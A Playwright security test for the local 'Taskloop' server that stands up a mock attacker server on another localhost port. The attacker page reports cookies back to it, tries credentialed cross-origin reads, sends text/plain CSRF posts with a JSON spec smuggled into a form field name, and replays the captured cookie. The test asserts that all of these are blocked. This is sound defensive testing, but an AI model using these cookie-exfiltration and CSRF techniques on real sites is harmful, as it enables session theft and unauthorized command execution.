// The token in a real browser (Debian's Chromium): a second local server on another port plays the
// attacker. Browsers send 127.0.0.1's cookies to every port on it, so that server receives the
// Taskloop cookie; its page also tries to read it and to submit a command through the browser.
import { expect, test } from '@playwright/test'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { pathToFileURL } from 'node:url'
import { writeRedirectFile } from '../../cli/browser'
import { startServer, type ServerProcess } from './server'
import { launch, row } from './ui'

let taskloop: ServerProcess
let attacker: Server
let markers: string
/** What the attacker's server saw and did, by name. */
let seen: Record<string, unknown>

const readBody = (req: IncomingMessage): Promise<string> =>
  new Promise((resolve) => {
    let body = ''
    req.on('data', (c: Buffer) => (body += c.toString()))
    req.on('end', () => resolve(body))
  })

const commandSpec = (name: string) => ({ name, argv: ['touch', path.join(markers, name)] })

function attackPage(target: string): string {
  const spec = (name: string) => JSON.stringify(commandSpec(name))
  // A text/plain form posts `name=value`: split the JSON so that it reads as a valid spec.
  const formSpec = spec('form-post')
  const cut = formSpec.lastIndexOf('"}')
  return `<!doctype html><html><body>
<iframe name="sink"></iframe>
<script>
const T = ${JSON.stringify(target)}
const report = (k, v) => fetch('/report', { method: 'POST', body: JSON.stringify({ k, v }) })
;(async () => {
  await report('document.cookie', document.cookie)
  try {
    const r = await fetch(T + '/api/stats', { credentials: 'include' })
    await report('read', 'read: ' + (await r.text()))
  } catch (e) {
    await report('read', 'blocked: ' + e)
  }
  await fetch(T + '/api/tasks', { method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: { 'content-type': 'text/plain' }, body: ${JSON.stringify(spec('fetch-text-plain'))} }).catch(() => {})
  const form = document.createElement('form')
  form.method = 'post'
  form.enctype = 'text/plain'
  form.action = T + '/api/tasks'
  form.target = 'sink'
  const input = document.createElement('input')
  input.name = ${JSON.stringify(formSpec.slice(0, cut))}
  input.value = '"}'
  form.append(input)
  document.body.append(form)
  const answered = new Promise((r) => { document.querySelector('iframe').onload = r; setTimeout(r, 10000) })
  form.submit()
  await answered
  await report('done', true)
})()
</script></body></html>`
}

test.beforeEach(async () => {
  markers = mkdtempSync(path.join(os.tmpdir(), 'taskloop-attack-'))
  seen = {}
  taskloop = await startServer(['--shutdown-grace-ms', '1000'], { auth: true })
  const target = new URL(taskloop.url).origin
  attacker = createServer((req, res) => {
    void (async () => {
      // The attacker's server reads whatever cookie the browser sent it, and replays it outside a browser.
      const cookie = /taskloop_\w+_\d+=([^;\s]+)/.exec(req.headers.cookie ?? '')
      if (cookie && seen.cookie === undefined) {
        seen.cookie = cookie[0]
        const asBearer = await fetch(`${target}/api/tasks`, {
          method: 'POST',
          headers: { authorization: `Bearer ${cookie[1]}`, 'content-type': 'application/json' },
          body: JSON.stringify(commandSpec('replay-bearer')),
        })
        const asCookie = (type: string) =>
          fetch(`${target}/api/tasks`, {
            method: 'POST',
            headers: { cookie: cookie[0], 'content-type': type },
            body: JSON.stringify(commandSpec(`replay-cookie-${type.split('/')[0]}`)),
          })
        seen.replays = [asBearer.status, (await asCookie('text/plain')).status, (await asCookie('application/json')).status]
      }
      if (req.url === '/report') {
        const { k, v } = JSON.parse(await readBody(req)) as { k: string; v: unknown }
        seen[k] = v
        return void res.end()
      }
      res.setHeader('content-type', 'text/html')
      res.end(attackPage(target))
    })()
  })
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
})

test.afterEach(async () => {
  attacker.closeAllConnections()
  await new Promise((r) => attacker.close(r))
  const code = await taskloop.stop()
  const info = test.info()
  if (info.status !== info.expectedStatus) console.log(`taskloop serve (exit ${code}):\n${taskloop.output()}`)
  rmSync(markers, { recursive: true, force: true })
})

test('a page on another local port gets neither the token nor a way to run a command', async ({ page }) => {
  const token = new URL(taskloop.url).searchParams.get('token')!
  // Log in as the user does: the printed URL, which sets the session cookie.
  await page.goto(taskloop.url)
  await expect(page.getByRole('status').filter({ hasText: 'Connecting' })).toHaveCount(0)
  const [cookie] = await page.context().cookies()
  expect(cookie?.name).toMatch(/^taskloop_session_\d+$/)
  expect(cookie?.value).not.toContain(token)
  expect(cookie?.httpOnly).toBe(true)
  expect(cookie?.sameSite).toBe('Strict')

  // The logged-in UI still changes things: a launch (JSON body) and a cancel (no body), by cookie and Origin.
  await launch(page, { name: 'legit', job: 'sleep', params: { ms: 60_000 }, count: 1 })
  await expect(row(page, 'legit')).toHaveAttribute('data-state', 'running')
  await row(page, 'legit').getByRole('button', { name: 'Cancel legit' }).click()
  await expect(row(page, 'legit')).toHaveAttribute('data-state', 'cancelled')

  const port = (attacker.address() as AddressInfo).port
  await page.goto(`http://127.0.0.1:${port}/`)
  await expect.poll(() => seen.done, { timeout: 30_000 }).toBe(true)

  // The browser did hand the cookie to the other port (the premise), but it is not the token.
  expect(String(seen.cookie)).toMatch(/^taskloop_session_\d+=/)
  expect(String(seen.cookie)).not.toContain(token)
  expect(seen.replays).toEqual([401, 415, 403])
  expect(seen['document.cookie']).toBe('')
  expect(String(seen.read)).toMatch(/^blocked/)

  // Nothing ran: every attempt would have touched a marker; only the user's task exists.
  const res = await fetch(`${new URL(taskloop.url).origin}/api/tasks`, { headers: { authorization: `Bearer ${token}` } })
  const { tasks } = (await res.json()) as { tasks: Array<{ name: string }> }
  expect(tasks.map((t) => t.name)).toEqual(['legit'])
  for (const name of ['fetch-text-plain', 'form-post', 'replay-bearer', 'replay-cookie-text', 'replay-cookie-application']) {
    expect(existsSync(path.join(markers, name)), name).toBe(false)
  }
})

test('the redirect file `--open` hands the browser logs it in', async ({ page }) => {
  const redirect = await writeRedirectFile(taskloop.url)
  try {
    await page.goto(pathToFileURL(redirect.file).href)
    await page.waitForURL((url) => url.origin === new URL(taskloop.url).origin && !url.search.includes('token'))
    await expect(page.getByRole('status').filter({ hasText: 'Connecting' })).toHaveCount(0)
    await expect(page.getByLabel('pending count', { exact: true })).toHaveText('0')
  } finally {
    await redirect.remove()
  }
})
